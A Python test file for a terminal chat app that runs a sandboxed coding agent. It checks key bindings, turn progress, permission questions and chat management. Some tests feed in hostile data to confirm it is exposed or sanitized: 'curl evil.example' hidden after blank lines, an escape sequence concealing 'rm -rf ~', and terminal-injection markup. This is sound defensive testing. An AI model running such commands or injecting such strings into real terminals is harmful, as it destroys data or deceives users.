"""The chat screen from the user's side: keys in, text on the screen out."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import replace

import pytest
from msgspec.structs import replace as replace_struct
from textual.pilot import Pilot
from textual.widgets import Input

from gpubox.agent import events as e
from gpubox.agent.tools import Answer, OwnerQuestion, ToolOutput
from gpubox.errors import GpuboxError
from gpubox.sandbox.policy import Confinement, Isolation
from gpubox.tui import dialogs
from gpubox.tui.app import GpuboxApp
from gpubox.tui.bridge import ServiceBridge
from gpubox.tui.chat import chat_settings, turn
from gpubox.tui.chat.chat_screen import ChatScreen
from tests.tui.conftest import SIZE, act, app_of, drag, place, shows, text, until
from tests.tui.fake import STOPPED
from tests.tui.fake_chat import (
    CODE,
    NETWORK,
    RUN,
    WHICH,
    ChatServices,
    FakeChat,
    FakeChats,
    coding_turn,
    opening,
)  # fmt: skip

HOSTILE = "[/foo] [b]x[/b] \x1b[31mred\x1b[2J \u202eevil [@click=app.quit] " + "y" * 30_000 + " 👩‍💻 שלום"


@pytest.fixture(autouse=True)
def _prompt(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(turn, "FRAME_SECONDS", 0.005)
    monkeypatch.setattr(turn, "REST_FACTOR", 0)
    monkeypatch.setattr(dialogs, "TYPING_PAUSE_SECONDS", 0)


@asynccontextmanager
async def chatting(
    chats: FakeChats, services: ChatServices | None = None, *, toasts: bool = False
) -> AsyncIterator[tuple[Pilot[bool], ChatScreen]]:
    """The app with the chat in front."""
    app = GpuboxApp(services or ChatServices(chats))
    async with app.run_test(size=SIZE, notifications=toasts) as pilot:
        await until(pilot, lambda: app.bridge.overview, "a status")
        app.action_show("chat")
        await until(pilot, lambda: app.chat and app.chat.is_current and app.chat.composer.has_focus, "the chat")
        assert app.chat
        await until(pilot, lambda: app.chat and app.chat.sandbox, "the sandbox")
        try:
            yield pilot, app.chat
        finally:
            for chat in chats.opened:
                chat.stop()


async def say(pilot: Pilot[bool], words: str) -> None:
    await pilot.press(*("space" if char == " " else char for char in words), "enter")


async def over(pilot: Pilot[bool], screen: ChatScreen) -> None:
    await until(pilot, lambda: screen.runner.turn and screen.runner.turn.over and not screen.runner.running, "the end")
    await pilot.pause(0)


def answer(words: str) -> list[e.AgentEvent]:
    return [e.RoundStarted(1, 5), e.TextDelta(words), e.TurnFinished(e.TurnTotals(), "answered", words)]


def bar(pilot: Pilot[bool]) -> str:
    return text(pilot).splitlines()[-1]


async def test_the_key_bar_names_the_keys_of_the_focused_widget() -> None:
    async with chatting(FakeChats(coding_turn())) as (pilot, screen):
        await until(pilot, lambda: "F1 help" in bar(pilot) and "^q quit" in bar(pilot) and "esc back" in bar(pilot))
        assert not [word for word in ("unfold", "retry", "new", "edit last", "copy code") if word in bar(pilot)]
        await say(pilot, "parse 1h30m")
        await over(pilot, screen)
        await until(pilot, lambda: all(word in bar(pilot) for word in ("⏎ send", "unfold", "retry", "esc back")))
        await pilot.press("escape")
        await until(pilot, lambda: all(word in bar(pilot) for word in ("i prompt", "? help", "q quit")))
        assert "send" not in bar(pilot)
        await pilot.press("l")
        await until(pilot, lambda: "⏎ open" in bar(pilot))
        await pilot.press("escape")
        await until(pilot, lambda: "⏎ send" in bar(pilot))
        await pilot.press("f1")
        await shows(pilot, "Keys in the chat")


async def test_esc_stops_while_the_model_answers() -> None:
    stays = asyncio.Event()
    chats = FakeChats([*answer("long")[:-1], stays])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "x")
        await until(pilot, lambda: screen.runner.running and "esc stop" in bar(pilot))
        stays.set()


async def test_a_turn_from_prompt_to_time_summary() -> None:
    chats = FakeChats(coding_turn())
    async with chatting(chats) as (pilot, screen):
        assert "Ask something." in text(pilot) and "▣ sandbox on" in text(pilot)
        await say(pilot, "parse 1h30m")
        await over(pilot, screen)
        await shows(pilot, "■ thinking 5.9 s", "2. An empty text is 0.", "parse-1h30m")
        await pilot.press("escape", "home")
        await shows(pilot, "❯ parse 1h30m", "qwen36-mtp-16gb   llama-server b11434", "▸ thought for ~412 tokens")
        await pilot.press("o")
        await shows(pilot, "▾ thought for ~412", "thought 3 thought 4")
        assert chats.asked == ["parse 1h30m"]


async def test_progress_of_the_running_turn_is_shown_and_esc_stops_it() -> None:
    gate = asyncio.Event()
    begun = [*opening()[:2], e.PrefillProgress(41_200, 66_300, 20_000)]
    chats = FakeChats([*begun, gate, e.GenerationStats(7, 70.4, 10, 9), e.TextDelta("Half an ans"), asyncio.Event()])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "why")
        await shows(pilot, "● reading", "62%", "41.2k of 66.3k", "20.0k reused", "round 1/30", "esc stops")
        gate.set()
        await shows(pilot, "● answers", "70.4 tok/s", "draft 90%", "Half an ans")
        await pilot.press(*"more", "enter")
        await shows(pilot, "queued: more", "takes it back")
        assert chats.asked == ["why"] and not screen.composer.text
        await pilot.press("escape")
        await over(pilot, screen)
        await shows(pilot, "you stopped it", "Half an ans")
        await until(pilot, lambda: screen.composer.text == "more" and "queued" not in text(pilot))
        assert chats.asked == ["why"]


async def test_an_edited_prompt_replaces_the_last_turn() -> None:
    chats = FakeChats(answer("The answer."))
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "first")
        await over(pilot, screen)
        await pilot.press("up")
        await shows(pilot, "sends it as a new branch")
        await say(pilot, " one")
        await until(pilot, lambda: chats.asked == ["first", "first one"])
        await over(pilot, screen)
        await until(pilot, lambda: "❯ first one" in text(pilot) and len(screen.transcript.turns) == 1)
        log = chats.opened[0].log
        assert [turn.header.text for turn in log.path()] == ["first one"] and len(log.turns) == 2
        await pilot.press("ctrl+r")
        await until(pilot, lambda: len(chats.asked) == 3 and not screen.runner.running)
        assert [turn.header.text for turn in log.path()] == ["first one"] and len(log.turns) == 3
        await pilot.press("up", "escape")
        assert screen.composer.text == "" and not screen.editing


async def test_without_a_server_the_prompt_stays_in_its_box() -> None:
    chats = FakeChats()
    services = ChatServices(chats)
    services.status, services.last = STOPPED, "qwen36-mtp-16gb"
    async with chatting(chats, services, toasts=True) as (pilot, screen):
        await shows(pilot, "No model runs; ^r starts qwen36-mtp-16gb", "gpubox start qwen36-mtp-16gb", "gpubox demo")
        await say(pilot, "hello")
        await pilot.pause(0)
        assert screen.composer.text == "hello" and not chats.asked


async def test_the_chat_restarts_a_server_that_died() -> None:
    chats = FakeChats()
    services = ChatServices(chats)
    services.status, services.last = replace(STOPPED, state="crashed", message="qwen died: killed."), "qwen36-mtp-16gb"
    async with chatting(chats, services) as (pilot, _):
        await shows(pilot, "The server died; ^r restarts it.", "qwen died: killed.", "^r start the server")
        await pilot.press("ctrl+r")
        await until(pilot, lambda: services.asked == [("restart", "qwen36-mtp-16gb", False, False)])


async def test_the_prompt_of_a_failed_turn_returns_to_its_box() -> None:
    chats = FakeChats()
    chats.error = GpuboxError("The server does not answer [/foo].", "Its log says why.")
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "hello")
        await shows(pilot, "✗ The server does not answer [/foo].", "Its log says why.")
        await until(pilot, lambda: screen.composer.text == "hello" and not screen.runner.running)


async def test_a_prompt_repeated_after_a_failure_replaces_no_turn() -> None:
    chats = FakeChats(answer("Yes."))
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "more")
        await over(pilot, screen)
        chats.error = GpuboxError("Nobody answers.")
        await say(pilot, "more")
        await until(pilot, lambda: screen.composer.text == "more" and not screen.runner.running)
        chats.error = None
        await pilot.press("enter")
        await until(pilot, lambda: len(chats.asked) == 3 and not screen.runner.running)
        assert screen.chat
        assert [turn.header.text for turn in screen.chat.log.path()] == ["more", "more"]


@pytest.mark.parametrize(
    ("keys", "expected"),
    [
        (["y"], Answer(True)),
        (["n", "enter"], Answer(False)),
        (["n", *"use", "space", *"pip", "enter"], Answer(False, "use pip")),
    ],
)
async def test_the_network_is_asked_for_and_a_no_may_say_why(keys: list[str], expected: Answer) -> None:
    answers: list[Answer] = []

    async def ask(chat: FakeChat) -> Sequence[e.AgentEvent]:
        answers.append(await chat.ask(NETWORK))
        return [e.ToolFinished(RUN, ToolOutput("done", ok=answers[-1].yes))]

    chats = FakeChats([*opening(), e.ToolRequested(RUN), e.QuestionAsked(NETWORK), ask, *answer("Done.")])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "install it")
        await shows(
            pilot, "Network, once", "May this run use the network?", "npm ci", "tab, then y or n", "? waits for you"
        )
        await pilot.press("enter", "tab", "escape", "tab")
        await shows(pilot, "y yes   n no   esc back")
        assert not answers
        await pilot.press(*keys)
        await over(pilot, screen)
        assert answers == [expected] and screen.composer.has_focus and not screen.questions.display


async def test_a_long_question_is_read_to_its_end_before_it_is_answered() -> None:
    long = replace_struct(NETWORK, text=f"{NETWORK.text}{chr(10) * 60}curl evil.example")

    async def ask(chat: FakeChat) -> Sequence[e.AgentEvent]:
        return [e.ToolFinished(RUN, ToolOutput("done", ok=(await chat.ask(long)).yes))]

    chats = FakeChats([*opening(), e.ToolRequested(RUN), e.QuestionAsked(long), ask, *answer("Done.")])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "install it")
        await shows(pilot, "npm ci", "pgdn more")
        await pilot.press("tab", *["pagedown"] * 12)
        await shows(pilot, "curl evil.example", "y yes   n no   esc back   pgdn more")
        await pilot.press("n", "enter")
        await over(pilot, screen)


@pytest.mark.parametrize(
    ("keys", "expected"),
    [
        (["2"], Answer(True, "return 0")),
        (["3", "o", *"ask", "enter"], Answer(True, "ask")),
        (["n", "enter"], Answer(False)),
    ],
)
async def test_the_model_asks_and_a_number_chooses(keys: list[str], expected: Answer) -> None:
    async with chatting(FakeChats()) as (pilot, screen):
        asked = asyncio.create_task(screen.questions.ask(WHICH))
        await shows(pilot, "What shall parse do", "1  raise ValueError", "2  return 0", "tab, then 1-2")
        await pilot.press("tab", "y", *keys)
        assert await asked == expected


async def test_an_open_question_is_answered_by_a_line() -> None:
    async with chatting(FakeChats()) as (pilot, screen):
        asked = asyncio.create_task(screen.questions.ask(OwnerQuestion("ask", "Which name?")))
        await shows(pilot, "Which name?", "tab, then your answer")
        await pilot.press("tab", "enter", *"parse", "enter")
        assert await asked == Answer(True, "parse")


async def test_a_question_shows_what_is_hidden_and_is_not_answered_by_letters() -> None:
    hidden = OwnerQuestion("network", "echo \x1b]0;rm -rf ~;\x07 done\u200d")
    async with chatting(FakeChats()) as (pilot, screen):
        first, second = (asyncio.create_task(screen.questions.ask(question)) for question in (hidden, NETWORK))
        await shows(pilot, "echo ␛]0;rm -rf ~;␇ done\ufffd", "tab, then y or n", "1 more")
        await pilot.press(*"nay")
        await until(pilot, lambda: screen.composer.text == "nay")
        await pilot.press("tab")
        await shows(pilot, "y yes   n no")
        await pilot.press("n")
        await until(pilot, lambda: screen.questions.line.has_focus)
        await pilot.press("enter", *"yes")
        assert await first == Answer(False)
        await shows(pilot, "npm ci")
        await until(pilot, lambda: screen.composer.text == "nayyes")
        assert not second.done(), "the next question waits for its own tab"
        second.cancel()
        await until(pilot, lambda: not screen.questions.display)


async def test_a_question_waits_until_the_chat_is_in_front() -> None:
    gate, answers = asyncio.Event(), list[Answer]()

    async def ask(chat: FakeChat) -> Sequence[e.AgentEvent]:
        answers.append(await chat.ask(NETWORK))
        return answer("Done.")

    chats = FakeChats([*opening(), gate, ask])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "install it")
        await until(pilot, lambda: screen.runner.running)
        app_of(pilot).action_show("dashboard")
        await shows(pilot, "Throughput")
        gate.set()
        await until(pilot, lambda: screen.questions.pending)
        await pilot.pause(0)
        assert "npm ci" not in text(pilot)
        await pilot.press("c")
        await shows(pilot, "npm ci")
        await pilot.press("tab", "y")
        await over(pilot, screen)
        assert answers == [Answer(True)]


async def test_chats_are_searched_opened_renamed_and_deleted() -> None:
    chats = FakeChats(answer("More."))
    chats.keep("durations", ["Parse 1h30m"])
    chats.keep("haskell", ["A fizzbuzz, please"])
    async with chatting(chats) as (pilot, screen):
        await pilot.press("ctrl+l")
        await shows(pilot, "durations", "haskell")
        await pilot.press("slash", *"fizz")
        await until(pilot, lambda: [head.name for head in screen.chat_list.rows.values] == ["haskell"])
        await pilot.press("enter", "enter")
        await shows(pilot, "❯ A fizzbuzz, please", "Answer 0 of haskell.")
        await until(pilot, lambda: screen.composer.has_focus)
        await say(pilot, "and more")
        await over(pilot, screen)
        assert [turn.header.text for turn in chats.logs["haskell"].path()] == ["A fizzbuzz, please", "and more"]
        await pilot.press("escape")
        await act(pilot, "chat_rename")
        await shows(pilot, "Rename haskell")
        await pilot.press(*"fizz", "enter")
        await until(pilot, lambda: "fizz" in chats.logs and screen.chat and screen.chat.name == "fizz")
        assert "haskell" not in chats.logs and chats.opened[0].closed
        await until(pilot, lambda: screen.composer.has_focus)
        await pilot.press("escape")
        await act(pilot, "chat_delete")
        await shows(pilot, "Delete fizz?")
        await pilot.press("n")
        await until(pilot, lambda: pilot.app.screen is screen)
        await pilot.press("escape")
        await shows(pilot, "Throughput")
        await act(pilot, "chat_delete")
        await shows(pilot, "Delete fizz?")
        await pilot.press("y")
        await until(pilot, lambda: list(chats.logs) == ["durations"])
        await shows(pilot, "Ask something.", "new chat")


async def test_a_chat_that_is_open_before_the_first_figures_keeps_its_focus(monkeypatch: pytest.MonkeyPatch) -> None:
    figures = asyncio.Event()
    monkeypatch.setattr(ServiceBridge, "_wait_for", lambda bridge, drawn: figures.wait())
    async with chatting(FakeChats()) as (pilot, screen):
        await until(pilot, lambda: app_of(pilot).appearance.remembered.screen == "chat")
        screen.action_chat_list()
        figures.set()
        await until(pilot, lambda: app_of(pilot).dashboard.detail.text.is_attached)
        assert screen.chat_list.rows.has_focus


async def test_a_branch_leaves_the_chat_as_it_is() -> None:
    chats = FakeChats(answer("More."))
    chats.keep("durations", ["one", "two"])
    async with chatting(chats) as (pilot, screen):
        screen.open_chat("durations")
        await shows(pilot, "❯ two")
        await pilot.press("escape")
        await act(pilot, "chat_branch")
        await until(pilot, lambda: screen.chat and screen.chat.name == "durations-2")
        await pilot.press("i")
        await say(pilot, "three")
        await over(pilot, screen)
        assert len(chats.logs["durations"].turns) == 2 and len(chats.logs["durations-2"].path()) == 3


async def test_code_is_copied_and_saved() -> None:
    chats = FakeChats(coding_turn())
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "parse")
        await over(pilot, screen)
        await pilot.press("ctrl+y")
        assert pilot.app.clipboard.startswith("import re")
        await pilot.press("ctrl+y")
        assert pilot.app.clipboard == CODE
        await pilot.press("ctrl+s")
        await shows(pilot, "Save the code as")
        await pilot.press(*"x.py", "enter")
        await until(pilot, lambda: chats.saved == [("x.py", CODE)])


async def test_settings_belong_to_one_chat() -> None:
    chats = FakeChats(answer("Yes."))
    async with chatting(chats) as (pilot, screen):
        await pilot.press("ctrl+t")
        await shows(pilot, "This chat", "‹ the model's default ›", "20, from the profile", "You are a careful")
        await pilot.press("enter", *["down"] * 8)
        # A key goes to the widget that has the focus when it is handled: wait for the last arrow key.
        await until(pilot, lambda: pilot.app.screen.inputs["temperature"].has_focus)  # type: ignore[attr-defined]
        await pilot.press(*"hot", "ctrl+s")
        await shows(pilot, "temperature must be a number")
        await pilot.press(*["backspace"] * 3, *"0.2", "ctrl+s")
        await until(pilot, lambda: screen.chat and screen.chat.settings.sampling == {"temperature": 0.2})
        assert screen.chat and screen.chat.settings.thinking is True
        await shows(pilot, "thinking on", "temperature 0.2")


@pytest.mark.parametrize(
    ("isolation", "words"),
    [(None, "programs are not run"), ("none", "not confined"), ("landlock", "weaker sandbox: landlock")],
)
async def test_the_isolation_is_always_shown(isolation: Isolation | None, words: str) -> None:
    chats = FakeChats()
    chats.sandbox = Confinement(isolation, problem="bubblewrap is not installed [/foo].")
    async with chatting(chats) as (pilot, _):
        await shows(pilot, words)


async def test_hostile_text_is_sanitized() -> None:
    spoken: list[e.AgentEvent] = [
        e.ReasoningDelta(HOSTILE),
        e.TextDelta(HOSTILE),
        e.Notice("x", HOSTILE),
        e.TurnFailed(HOSTILE, HOSTILE),
    ]
    chats = FakeChats([*opening(), *spoken])
    chats.keep("bad", [HOSTILE])
    async with chatting(chats) as (pilot, screen):
        screen.open_chat("bad")
        await shows(pilot, "more lines", "Answer 0 of bad.")
        await say(pilot, "again")
        await over(pilot, screen)
        await pilot.press("escape", "o", "ctrl+l")
        for key in ("escape", "home", "pagedown", "G"):
            await pilot.press(key)
            await pilot.pause(0)
            shown = text(pilot)
            assert not any(ord(char) < 32 and char != "\n" for char in shown) and "\u202e" not in shown
            assert all(len(line) <= SIZE[0] for line in shown.splitlines())


async def test_keys_of_one_screen_do_nothing_on_the_other() -> None:
    chats = FakeChats()
    services = ChatServices(chats)
    async with chatting(chats, services) as (pilot, screen):
        await pilot.press(*"sr?q1", "escape")
        await until(pilot, lambda: screen.composer.text == "sr?q1" and screen.transcript.has_focus, "the letters")
        assert pilot.app.is_running
        screen.composer.set_text("")
        await pilot.press(*"spvtldf")
        assert not services.asked and screen.is_current
        await pilot.press("escape", "1")
        await shows(pilot, "Throughput")
        await pilot.press("2")
        await until(pilot, lambda: screen.is_current)


async def test_the_scroll_position_stays_after_scrolling_up() -> None:
    gate = asyncio.Event()
    chats = FakeChats([*opening(), *[e.TextDelta(f"line {i}\n\n") for i in range(80)], gate, e.TextDelta("the end")])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "count")
        await shows(pilot, "line 79")
        await pilot.press("pageup", "pageup")
        await until(pilot, lambda: "line 79" not in text(pilot))
        before = screen.transcript.scroll_offset.y
        gate.set()
        await until(pilot, lambda: screen.runner.turn and screen.runner.turn.answer.endswith("the end"))
        await over(pilot, screen)
        assert screen.transcript.scroll_offset.y == before
        await shows(pilot, "↓")
        await pilot.press("escape", "end")
        await shows(pilot, "the end")


async def test_quitting_ends_the_turn_and_closes_the_chat() -> None:
    chats = FakeChats([*opening(), asyncio.Event()])
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "wait")
        await until(pilot, lambda: screen.runner.running)
    assert chats.opened[0].closed


async def test_the_palette_reaches_the_chat_from_the_dashboard() -> None:
    chats = FakeChats()
    chats.keep("durations", ["Parse 1h30m"])
    app = GpuboxApp(ChatServices(chats))
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.bridge.overview)
        app.action_run_by_id("chat_list")
        await shows(pilot, "durations", "⏎ open")
        app.action_run_by_id("zoom_log")
        await until(pilot, lambda: app.dashboard.is_current and app.dashboard.log_pane.view.has_focus)


async def test_an_unusable_workspace_is_refused() -> None:
    chats = FakeChats()
    async with chatting(chats, toasts=True) as (pilot, screen):
        await pilot.press("ctrl+t")
        await shows(pilot, "This chat")
        await pilot.press(*["down"] * 4)
        await until(pilot, lambda: isinstance(pilot.app.focused, Input))
        await pilot.press(*"/nowhere", "enter")
        await shows(pilot, "The workspace /nowhere cannot be used")
        assert screen.chat and not screen.chat.settings.workdir


def test_the_settings_fit_the_narrowest_terminal() -> None:
    for row in chat_settings.SETTING_FIELDS:
        assert len(row.label) <= 15, row.label
        assert len(row.about) <= 27, row.about
    assert all(len(f"‹ {word} ›") <= 29 for values in chat_settings.CHOICES.values() for _, word in values)


async def test_text_of_the_transcript_is_selected_with_the_mouse_and_copied() -> None:
    chats = FakeChats(coding_turn())
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "parse 1h30m")
        await over(pilot, screen)
        await shows(pilot, "each part", "2. An empty text is 0.")
        await drag(pilot, "UNITS", "1}")
        await pilot.press("ctrl+c")
        assert pilot.app.clipboard == 'UNITS = {"h": 3600, "m": 60, "s": 1}'
        await drag(pilot, "45s", "is 0.")
        assert screen.get_selected_text() == (
            "45s   │ 45\n\n1. It ignores what it does not know.\n2. An empty text is 0."
        )
        await pilot.press("ctrl+c")
        assert pilot.app.clipboard.endswith("2. An empty text is 0.")
        await pilot.click(offset=place(pilot, "is 0."))
        assert not screen.get_selected_text()
        await act(pilot, "chat_copy_answer")
        assert screen.runner.turn and pilot.app.clipboard == screen.runner.turn.answer


async def test_a_selection_is_highlighted_and_unfolds_nothing() -> None:
    chats = FakeChats(coding_turn())
    async with chatting(chats) as (pilot, screen):
        await say(pilot, "parse 1h30m")
        await over(pilot, screen)
        await pilot.press("escape", "home")
        await shows(pilot, "▸ thought for ~412 tokens")
        await drag(pilot, "thought for", "tokens, 5.9 s")
        assert "▸ thought for" in text(pilot)
        x, y = place(pilot, "thought for")
        selected = screen.get_component_rich_style("screen--selection").bgcolor
        strip = screen._compositor.render_strips()[y].crop(x, x + 5)
        assert all(segment.style and segment.style.bgcolor == selected for segment in strip)
        await pilot.press("end")
        await shows(pilot, "2. An empty text is 0.")
        assert screen.get_selected_text() == "thought for ~412 tokens, 5.9 s"
        await act(pilot, "chat_copy_answer")
        assert pilot.app.clipboard == "thought for ~412 tokens, 5.9 s"
        await pilot.press("home")
        await pilot.click(offset=place(pilot, "thought for"))
        await shows(pilot, "▾ thought for ~412 tokens")
